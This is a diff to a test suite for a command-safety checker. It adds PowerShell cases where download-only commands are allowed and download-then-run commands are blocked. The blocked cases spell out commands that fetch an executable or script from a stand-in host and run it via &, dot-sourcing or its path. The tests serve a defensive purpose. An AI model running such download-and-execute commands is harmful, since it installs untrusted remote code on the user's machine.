@@ -205,3 +205,17 @@ describe('a program run from a downloaded archive', () => {
     ['curl -LO https://x.example.net/t.tar.gz && unzip -l t.zip && ./t/run', 'bash'],
   ])('allows %s', notDownloadExecute);
 });
+
+describe('PowerShell: a downloaded file named in an expression is not run', () => {
+  it.each([
+    '$wc = New-Object Net.WebClient; $wc.DownloadFile("https://x.example/w.png", "$env:TEMP\\w.png"); [Win32.Wallpaper]::SetWallpaper("$env:TEMP\\w.png")',
+    'iwr https://x.example/a.zip -OutFile $zip; $archive = [IO.Compression.ZipFile]::OpenRead($zip)',
+    'iwr https://x.example/r.csv -OutFile C:\\Temp\\r.csv; $path = "C:\\Temp\\r.csv"; $path',
+  ])('allows %s', (text) => notDownloadExecute(text, 'powershell'));
+
+  it.each([
+    'iwr https://x.example/a.exe -OutFile $env:TEMP\\a.exe; & "$env:TEMP\\a.exe"',
+    'iwr https://x.example/a.ps1 -OutFile C:\\Temp\\a.ps1; . C:\\Temp\\a.ps1',
+    'iwr https://x.example/a.exe -OutFile C:\\Temp\\a.exe; C:\\Temp\\a.exe /quiet',
+  ])('still blocks %s (run by & or . or by its path)', (text) => blocksAs(text, 'powershell', 'dl.file-then-run'));
+});
